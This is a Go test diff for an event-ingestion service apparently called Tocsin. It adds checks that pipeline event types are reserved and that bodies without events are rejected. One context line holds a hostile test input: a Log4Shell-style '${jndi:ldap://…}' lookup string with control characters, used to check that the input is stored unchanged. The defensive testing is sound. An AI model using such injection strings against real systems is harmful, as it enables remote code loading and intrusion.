@@ -55,7 +55,12 @@ func TestEveryTypeGoesThrough(t *testing.T) {
 	s := newStore(hook("all"))
 	in, _ := start(t, s)
 	var body []byte
+	types := 0
 	for _, a := range catalog.Default().Types() {
+		if a.Category == catalog.CategoryPipeline {
+			continue // Tocsin's own: see TestPipelineTypesAreReserved
+		}
+		types++
 		var line strings.Builder
 		for _, part := range strings.Split(string(a.Example), "\n") {
 			line.WriteString(strings.TrimSpace(part))
@@ -66,7 +71,7 @@ func TestEveryTypeGoesThrough(t *testing.T) {
 		`"data":{"finding":"text of an attacker","environment":"production","evidence":"\u0000 ${jndi:ldap://192.0.2.1/a} \ud800","affected":["agent/a\nb"]}}`
 	body = append(body, hostile...)
 	result, err := in.Receive(t.Context(), http.Header{"Content-Type": {"application/x-ndjson"}}, body)
-	if err != nil || result.Accepted != len(catalog.Default().Types())+1 {
+	if err != nil || result.Accepted != types+1 {
 		t.Fatalf("%+v, %v", result, err)
 	}
 	if got := s.stored(t, "hostile-1").Event; string(got.Raw) != hostile {
@@ -174,6 +179,50 @@ func TestReceiveReportsEverythingAtOnce(t *testing.T) {
 	header := http.Header{"Ce-Specversion": {"1.0"}, "Ce-Id": {"b"}, "Ce-Source": {"/s"}, "Ce-Type": {"custom.x"}}
 	if result, err := in.Receive(t.Context(), header, []byte(`{}`)); err != nil || result.Accepted != 1 {
 		t.Errorf("binary: %+v, %v", result, err)
+	}
+}
+
+func TestReceiveRefusesABodyWithoutEvents(t *testing.T) {
+	in, _ := start(t, newStore())
+	for _, form := range []struct{ contentType, body string }{
+		{"application/json", "[]"}, {"", ` {"events": [ ]} `}, {"application/json", `{"maliciousEvents":[]}`}, {"application/cloudevents-batch+json", "[]"},
+	} {
+		_, err := in.Receive(t.Context(), http.Header{"Content-Type": {form.contentType}}, []byte(form.body))
+		if tocsin.CodeOf(err) != tocsin.CodeInvalid || !strings.Contains(err.Error(), "no events") {
+			t.Errorf("%s: got %v", form.body, err)
+		}
+	}
+}
+
+// Producers may not speak for Tocsin; Tocsin itself may.
+func TestPipelineTypesAreReserved(t *testing.T) {
+	s := newStore()
+	in, _ := start(t, s)
+	own := 0
+	for _, a := range catalog.Default().Types() {
+		if a.Category != catalog.CategoryPipeline {
+			continue
+		}
+		own++
+		_, err := in.Receive(t.Context(), http.Header{}, a.Example)
+		var invalid *tocsin.Error
+		if !errors.As(err, &invalid) || invalid.Code != tocsin.CodeInvalid || len(invalid.Fields) != 1 || invalid.Fields[0].Field != "type" || !strings.Contains(invalid.Fields[0].Message, "reserved") {
+			t.Errorf("%s: Receive: %v", a.Type, err)
+		}
+		e := example(t, a.Type)
+		result, rejected, err := in.SubmitEach(t.Context(), []tocsin.Event{e, custom(a.Type, 1)[0]})
+		if err != nil || result.Accepted != 1 || len(rejected) != 1 || *rejected[0].Index != 0 || rejected[0].Field != "type" {
+			t.Errorf("%s: SubmitEach: %+v, %v, %v", a.Type, result, rejected, err)
+		}
+		if len(s.events) != own*2-1 {
+			t.Errorf("%s: %d events are stored", a.Type, len(s.events))
+		}
+		if result, err := in.Submit(t.Context(), []tocsin.Event{e}); err != nil || result.Accepted != 1 {
+			t.Errorf("%s: Submit: %+v, %v", a.Type, result, err)
+		}
+	}
+	if own != 3 {
+		t.Errorf("%d types of category pipeline, want 3", own)
 	}
 }
 
